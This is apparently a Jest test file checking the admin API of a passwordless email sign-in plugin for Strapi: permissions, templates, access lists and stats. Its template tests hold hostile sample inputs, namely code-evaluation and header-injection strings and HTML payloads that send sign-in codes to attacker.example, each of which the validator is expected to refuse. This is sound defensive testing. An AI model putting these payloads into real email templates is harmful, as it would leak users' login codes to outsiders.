/**
 * The admin page's routes (/users-permissions/passwordless/…): users-permissions' own
 * admin permissions decide who may call them; what admins save is what the next code
 * email and the next sign-in use.
 */
import { startStrapi, RELAXED_LIMITS, type TestApp } from '../helpers/strapi';
import { createUser, newEmail } from '../helpers/users';
import { createAdmin, UP_ADMIN_ACTIONS as A, type TestAdmin } from '../helpers/admin';
import { expectError } from '../helpers/errors';
import { ask, lastEmail, verify, wrongCode } from '../helpers/flow';
import { setAdvanced } from '../helpers/settings';
import { JWT_MODE, REFRESH_COOKIE, STRAPI_MAJOR } from '../helpers/host';

let app: TestApp;
let superAdmin: TestAdmin;
let readOnly: TestAdmin;
let noPluginRights: TestAdmin;

const BASE = '/users-permissions/passwordless';

beforeAll(async () => {
  app = await startStrapi({
    passwordless: {
      grantPublic: true,
      linkUrl: 'https://shop.test/auth/link',
      limits: RELAXED_LIMITS,
      access: { deny: ['@config-denied.test'] },
      email: { appName: 'Maison', locales: { de: { subject: 'Ihr Code' } } },
    },
  });
  superAdmin = await createAdmin(app.strapi, 'super');
  readOnly = await createAdmin(app.strapi, [A.templatesRead, A.advancedRead]);
  // An admin who may do other things (here: the Media Library) but nothing in users-permissions' settings.
  noPluginRights = await createAdmin(app.strapi, ['plugin::upload.read']);
});
afterAll(async () => app?.stop());

const call = (method: 'get' | 'put' | 'post', path: string, admin?: TestAdmin, body?: object) => {
  const req = app.http()[method](`${BASE}${path}`);
  if (admin) req.set('Authorization', admin.auth);
  return body ? req.send(body) : req;
};

const VALID_TEMPLATES = { default: {}, locales: {} };
const VALID_ACCESS = { allow: [], deny: [] };

describe('permissions: users-permissions’ existing admin actions', () => {
  const routes: Array<['get' | 'put' | 'post', string, object | undefined, boolean]> = [
    // method, path, body, allowed for the read-only admin
    ['get', '/status', undefined, true],
    ['get', '/stats', undefined, true],
    ['post', '/test-email', {}, true],
    ['get', '/templates', undefined, true],
    ['put', '/templates', VALID_TEMPLATES, false],
    ['get', '/access', undefined, true],
    ['put', '/access', VALID_ACCESS, false],
  ];

  it.each(routes)('%s %s: 401 without an admin token, 403 for an admin without the action', async (method, path, body) => {
    expect((await call(method, path, undefined, body)).status).toBe(401);
    expect((await call(method, path, noPluginRights, body)).status).toBe(403);
  });

  it.each(routes)('%s %s: the read-only admin (email-templates.read, advanced-settings.read)', async (method, path, body, allowed) => {
    expect((await call(method, path, readOnly, body)).status).toBe(allowed ? 200 : 403);
  });

  it.each(routes)('%s %s: 200 for an admin with the update actions', async (method, path, body) => {
    const editor = await createAdmin(app.strapi, Object.values(A));
    expect((await call(method, path, editor, body)).status).toBe(200);
  });

  it('a storefront user JWT is no admin token', async () => {
    const user = await createUser(app.strapi);
    await ask(app, user.email);
    await app.settle();
    const { jwt } = (await verify(app, user.email, lastEmail(app, user.email).code!)).body;
    expect((await app.http().get(`${BASE}/status`).set('Authorization', `Bearer ${jwt}`)).status).toBe(401);
  });
});

describe('status', () => {
  it('reports the secret, the provider and sender, the roles’ actions, sign-up, link and cookie', async () => {
    await setAdvanced(app.strapi, { allow_register: false });
    const { body, status } = await call('get', '/status', readOnly);
    expect(status).toBe(200);
    expect(body.secret).toEqual({ configured: true, problem: null });
    expect(body.email).toMatchObject({ delivery: 'provider', provider: 'amazon-ses', from: 'no-reply@shop.test', adminEmail: readOnly.email });
    const publicRole = body.roles.find((role: { type: string }) => role.type === 'public');
    expect(publicRole.actions).toEqual(['passwordless', 'passwordlessVerify', 'logout']);
    expect(body.roles.find((role: { type: string }) => role.type === 'authenticated').actions).toEqual(['logout']);
    expect(body.signUp).toMatchObject({ setting: 'auto', allowRegister: false, enabled: false });
    await setAdvanced(app.strapi, { allow_register: true });
    expect((await call('get', '/status', readOnly)).body.signUp).toMatchObject({ allowRegister: true, enabled: true });
    expect(body.linkUrl).toBe('https://shop.test/auth/link');
    expect(body.cookie).toMatchObject({ enabled: false, name: 'strapi_jwt' });
    expect(body.counters).toBe(process.env.TEST_REDIS ? 'redis' : 'database');
    expect(body.limits).toContainEqual({ key: 'limits.ipRequest', value: '100000 per 900 s', source: 'config' });
    expect(body.limits).toContainEqual({ key: 'code.ttlSeconds', value: '600', source: 'default' });
    expect(body.editable).toEqual({ templates: true, access: true });
  });

  it('reports how users-permissions issues the sign-in’s tokens: the mode, the access token’s lifetime, the refresh cookie', async () => {
    const { body } = await call('get', '/status', readOnly);
    expect(body.jwt).toEqual(
      JWT_MODE === 'refresh'
        ? // The host's sessions.accessTokenLifespan (users-permissions' default, 600 s, unless a run shortens it).
          { mode: 'refresh', accessTokenLifetime: Number(process.env.UP_ACCESS_TOKEN_LIFESPAN ?? 600), refreshCookie: REFRESH_COOKIE }
        : { mode: 'legacy', accessTokenLifetime: '30d', refreshCookie: false }
    );
  });
});

describe('test email', () => {
  it('sends the code email to the signed-in admin through the real provider', async () => {
    const res = await call('post', '/test-email', readOnly, { locale: 'de' });
    expect(res.status).toBe(200);
    expect(res.body).toEqual({ sent: true, to: readOnly.email });
    const sent = app.ses.to(readOnly.email);
    const message = sent[sent.length - 1];
    expect(message.subject).toBe('Ihr Code');
    expect(message.text).toContain('Hello Ada,');
    // The sample link cannot sign anyone in.
    expect(message.text).toContain('https://shop.test/auth/link?token=test-link-does-not-sign-in');
  });

  it('shows the provider’s own error, with one attempt only', async () => {
    const admin = await createAdmin(app.strapi, [A.templatesRead]);
    app.ses.mode = 'fail';
    const before = app.ses.attempts;
    try {
      const res = await call('post', '/test-email', admin, {});
      expectError(res, 502, 'EMAIL_PROVIDER_FAILED');
      expect(res.body.error.message).toContain('SES is down');
      expect(app.ses.attempts - before).toBe(1);
    } finally {
      app.ses.mode = 'ok';
    }
  });

  it('refuses a locale that is not a tag', async () => {
    expectError(await call('post', '/test-email', readOnly, { locale: 'x y' }), 400, 'INVALID_BODY');
  });

  it('at most 5 per admin in 10 minutes: an admin may change their own address, so the button must not mail anyone at will', async () => {
    const admin = await createAdmin(app.strapi, [A.templatesRead]);
    for (let i = 0; i < 5; i += 1) expect((await call('post', '/test-email', admin, {})).status).toBe(200);
    const sixth = await call('post', '/test-email', admin, {});
    expectError(sixth, 429, 'TEST_EMAIL_RATE_LIMITED');
    expect(Number(sixth.headers['retry-after'])).toBeGreaterThan(0);
    expect(app.ses.to(admin.email)).toHaveLength(5);
    // Another admin has a quota of their own.
    expect((await call('post', '/test-email', readOnly, {})).status).toBe(200);
  });
});

describe('templates', () => {
  afterEach(async () => {
    await call('put', '/templates', superAdmin, VALID_TEMPLATES);
  });

  it('GET shows config’s templates, the placeholders and the sample values', async () => {
    const { body } = await call('get', '/templates', readOnly);
    expect(body.editable).toBe(true);
    expect(body.configured.default.subject).toBe('Your sign-in code');
    expect(body.configured.locales.de).toEqual({ subject: 'Ihr Code' });
    expect(body.placeholders).toContain('CODE');
    expect(body.sample).toMatchObject({ CODE: '123456', EXPIRES_IN_MINUTES: '10', APP_NAME: 'Maison' });
    expect(body.sample.URL).toBe('https://shop.test/auth/link?token=sample-token');
  });

  it('a saved French subject is what the next code email with locale fr uses; other locales keep theirs', async () => {
    const put = await call('put', '/templates', superAdmin, {
      default: {},
      locales: { fr: { subject: 'Votre code <%= APP_NAME %>', text: '', html: '' } },
    });
    expect(put.status).toBe(200);
    expect(put.body.saved).toEqual({ default: {}, locales: { fr: { subject: 'Votre code <%= APP_NAME %>' } } });
    expect(put.body.updatedAt).toEqual(expect.any(String));
    const user = await createUser(app.strapi);
    await ask(app, user.email, {}, { locale: 'fr-CA' });
    await app.settle();
    const fr = lastEmail(app, user.email);
    expect(fr.subject).toBe('Votre code Maison');
    // Empty parts fall back to the configured ones: the code is still in the text.
    expect(fr.code).toMatch(/^\d{6}$/);
    expect((await verify(app, user.email, fr.code!)).status).toBe(200);
    const other = await createUser(app.strapi);
    await ask(app, other.email, {}, { locale: 'de' });
    await app.settle();
    expect(lastEmail(app, other.email).subject).toBe('Ihr Code');
  });

  it('a saved default applies to every locale without its own part; config’s locale wins over the saved default', async () => {
    await call('put', '/templates', superAdmin, { default: { subject: 'Code for <%= USER.username %>' }, locales: {} });
    const user = await createUser(app.strapi, { username: 'zoé' });
    await ask(app, user.email);
    await app.settle();
    expect(lastEmail(app, user.email).subject).toBe('Code for zoé');
    const other = await createUser(app.strapi);
    await ask(app, other.email, {}, { locale: 'de' });
    await app.settle();
    expect(lastEmail(app, other.email).subject).toBe('Ihr Code');
  });

  it.each([
    ['code evaluation (lodash <% %>)', { default: { subject: '<% process.exit(1) %>' }, locales: {} }, 'default.subject'],
    ['an unknown placeholder', { default: { text: '<%= CODE %> <%= constructor %>' }, locales: {} }, 'default.text'],
    ['a line break in the subject', { default: { subject: 'Code\r\nBcc: all@shop.test' }, locales: {} }, 'default.subject'],
    ['a text without the code', { default: {}, locales: { fr: { text: 'Bonjour' } } }, 'locales.fr.text'],
    ['an HTML part without the code', { default: { html: '<p>Hi</p>' }, locales: {} }, 'default.html'],
    ['a locale that is not a tag', { default: {}, locales: { 'fr fr': { subject: 'x' } } }, 'locales.fr fr'],
    ['__proto__ as a locale', JSON.parse('{"default":{},"locales":{"__proto__":{"subject":"x"}}}'), 'locales.__proto__'],
    ['a part that does not exist', { default: { footer: 'x' }, locales: {} }, 'default.footer'],
    ['a number as a template', { default: { subject: 42 }, locales: {} }, 'default.subject'],
    ['a subject over 255 characters', { default: { subject: 'x'.repeat(256) }, locales: {} }, 'default.subject'],
    ['no locales object', { default: {} }, ''],
    // The mail client would fetch the image, and with it each recipient's code, on opening.
    ['a remote image carrying the code', { default: { html: '<p><%= CODE %></p><img src="https://attacker.example/?c=<%= CODE %>">' }, locales: {} }, 'default.html'],
    ['the link outside an <a href>', { default: { html: '<p><%= CODE %></p><img src="<%= URL %>">' }, locales: {} }, 'default.html'],
  ])('refuses %s with 400 INVALID_TEMPLATE naming the field; nothing is saved', async (_name, body, path) => {
    await call('put', '/templates', superAdmin, { default: { subject: 'Kept' }, locales: {} });
    const res = await call('put', '/templates', superAdmin, body);
    if (STRAPI_MAJOR === 5 && path === 'locales.__proto__') {
      // Strapi 5's body parser refuses a __proto__ key itself, before any route runs.
      expect(res.status).toBe(400);
    } else {
      expectError(res, 400, 'INVALID_TEMPLATE');
      expect(res.body.error.name).toBe('ValidationError');
      expect(res.body.error.details.errors.map((problem: { path: string }) => problem.path)).toContain(path);
    }
    expect((await call('get', '/templates', readOnly)).body.saved.default).toEqual({ subject: 'Kept' });
  });

  // Issue 18: templates that fooled the hand-written scanner, saved by an admin whose role
  // has only email-templates update (a copywriter, not a super admin).
  it.each([
    ['a quote inside an unquoted attribute', `<p>Your code: <%= CODE %></p><img alt=x' src="https://attacker.example/p.gif?a='><%= CODE %>">`],
    ['a bogus comment', `<p><%= CODE %></p><?x "><img src='https://attacker.example/p.gif?c=" > <%= CODE %>'>`],
    ['a raw-text end tag', `<p><%= CODE %></p><style>p{background:url("https://attacker.example/c.gif?</styles><%= CODE %>")}</style>`],
    ['ping glued to the href', `<p><%= CODE %></p><a href="<%= URL %>"ping="https://attacker.example/ping">Sign in</a>`],
  ])('a copywriter cannot save %s: 400 INVALID_TEMPLATE, and the next email goes nowhere else', async (_name, html) => {
    const copywriter = await createAdmin(app.strapi, [A.templatesRead, A.templatesUpdate]);
    const res = await call('put', '/templates', copywriter, { default: { html }, locales: {} });
    expectError(res, 400, 'INVALID_TEMPLATE');
    expect(res.body.error.details.errors.map((problem: { path: string }) => problem.path)).toEqual(['default.html']);
    const user = await createUser(app.strapi);
    await ask(app, user.email);
    await app.settle();
    const sent = app.ses.to(user.email);
    expect(sent).toHaveLength(1);
    expect(sent[0].html).not.toContain('attacker.example');
  });

  it('a template saved under the earlier rules is not used after the upgrade, and the log says which part', async () => {
    const html = `<p>Your code: <%= CODE %></p><img alt=x' src="https://attacker.example/p.gif?a='><%= CODE %>">`;
    // As the scanner before issue 18 accepted and saved it.
    await app.strapi
      .store({ type: 'plugin', name: 'users-permissions' })
      .set({ key: 'passwordless-templates', value: { value: { default: { html, subject: 'Kept subject' }, locales: {} }, updatedAt: new Date().toISOString() } });
    app.advanceClock(6_000);
    const user = await createUser(app.strapi);
    await ask(app, user.email);
    await app.settle();
    const [sent] = app.ses.to(user.email);
    expect(sent.subject).toBe('Kept subject');
    expect(sent.html).not.toContain('attacker.example');
    expect(sent.html).toContain('Your sign-in code:');
    expect(app.logs.some((line) => line.level === 'warn' && line.message.includes('default.html'))).toBe(true);
    await call('put', '/templates', superAdmin, VALID_TEMPLATES);
  });

  it('<%= URL %> is refused while no linkUrl is configured (checked like config) — here one is, so it is accepted', async () => {
    const res = await call('put', '/templates', superAdmin, { default: { text: '<%= CODE %> <%= URL %>' }, locales: {} });
    expect(res.status).toBe(200);
  });
});

describe('access', () => {
  afterEach(async () => {
    await call('put', '/access', superAdmin, VALID_ACCESS);
  });

  it('a denied address gets no email and cannot verify a code it already had; config’s entries stay', async () => {
    const user = await createUser(app.strapi);
    await ask(app, user.email);
    await app.settle();
    const { code } = lastEmail(app, user.email);
    const put = await call('put', '/access', superAdmin, { allow: [], deny: [` ${user.email.toUpperCase()} `] });
    expect(put.status).toBe(200);
    expect(put.body).toMatchObject({ configured: { allow: [], deny: ['@config-denied.test'] }, saved: { allow: [], deny: [user.email] } });
    const sent = app.ses.to(user.email).length;
    await ask(app, user.email, {}, {});
    await app.settle();
    expect(app.ses.to(user.email)).toHaveLength(sent);
    expectError(await verify(app, user.email, code!), 400, 'INVALID_CODE');
  });

  it('the saved lists are read for unknown identifiers too, so an expired cache does not time known accounts apart', async () => {
    // Scoped stores (strapi.store({ type, name })) read through strapi.store.get, on both majors.
    const store = app.strapi.store;
    const realGet = store.get;
    let reads = 0;
    store.get = (params: { key?: string }) => {
      if (params?.key === 'passwordless-access') reads += 1;
      return realGet(params);
    };
    try {
      app.advanceClock(6_000); // past the 5-second cache
      await verify(app, newEmail('nobody'), '000000');
      expect(reads).toBeGreaterThan(0);
    } finally {
      store.get = realGet;
    }
  });

  it('an allow entry admits only its domain; deny wins over allow', async () => {
    const inside = await createUser(app.strapi, { email: newEmail('in').replace('@shop.test', '@team.test') });
    const denied = await createUser(app.strapi, { email: newEmail('no').replace('@shop.test', '@team.test') });
    const outside = await createUser(app.strapi);
    await call('put', '/access', superAdmin, { allow: ['@team.test'], deny: [denied.email] });
    for (const user of [inside, denied, outside]) await ask(app, user.email);
    await app.settle();
    expect(app.ses.to(inside.email)).toHaveLength(1);
    expect(app.ses.to(denied.email)).toHaveLength(0);
    expect(app.ses.to(outside.email)).toHaveLength(0);
  });

  it.each([
    [{ allow: ['not-an-address'], deny: [] }, ['not-an-address']],
    [{ allow: [], deny: ['a@b@c', '@'] }, ['a@b@c', '@']],
    [{ allow: ['ok@shop.test', 'zero\u200bwidth@shop.test'], deny: [] }, ['zero\u200bwidth@shop.test']],
  ])('refuses %j with 400 INVALID_ACCESS_ENTRY listing the entries; nothing is saved', async (body, entries) => {
    await call('put', '/access', superAdmin, { allow: [], deny: ['@kept.test'] });
    const res = await call('put', '/access', superAdmin, body);
    expectError(res, 400, 'INVALID_ACCESS_ENTRY');
    expect(res.body.error.details.entries).toEqual(entries);
    expect((await call('get', '/access', readOnly)).body.saved).toEqual({ allow: [], deny: ['@kept.test'] });
  });

  it.each([[{ allow: 'a@b.test', deny: [] }], [{ allow: [1], deny: [] }], [{ allow: [], deny: [], extra: [] }], [[]]])(
    'refuses the malformed body %j with 400',
    async (body) => {
      expectError(await call('put', '/access', superAdmin, body as object), 400, 'INVALID_ACCESS_ENTRY');
    }
  );
});

describe('activity chart', () => {
  it('counts requests, sign-ins, failures, locks and rate-limit refusals per hour in the shared table', async () => {
    const before = (await call('get', '/stats', readOnly)).body.hours.at(-1);
    const user = await createUser(app.strapi);
    await ask(app, user.email);
    await app.settle();
    const { code } = lastEmail(app, user.email);
    await verify(app, user.email, wrongCode(code!));
    await verify(app, user.email, code!);
    // A second code within the cooldown: refused by a limit (429).
    expect((await ask(app, user.email)).status).toBe(429);
    // Ten wrong codes spend another account's failure budget: one lock.
    const victim = await createUser(app.strapi);
    for (let i = 0; i < 10; i += 1) await verify(app, victim.email, '000000');
    const { body } = await call('get', '/stats', readOnly);
    expect(body.hours).toHaveLength(24);
    const now = body.hours.at(-1);
    expect(new Date(now.hour).getTime()).toBe(Math.floor(Date.now() / 3_600_000) * 3_600_000);
    expect(now.requested - before.requested).toBe(1);
    expect(now.failed - before.failed).toBe(11);
    expect(now.locked - before.locked).toBe(1);
    // Only the cooldown's 429 (the ten wrong codes end in a lock, not a refusal).
    expect(now.limited - before.limited).toBe(1);
    expect(now.succeeded - before.succeeded).toBe(1);
    // Shared between instances: the counts are rows in the database, not this process's memory.
    const rows = await app.strapi.db.connection('up_passwordless_stats').select('event', 'total');
    expect(rows).toEqual(expect.arrayContaining([expect.objectContaining({ event: 'succeeded' })]));
  });
});
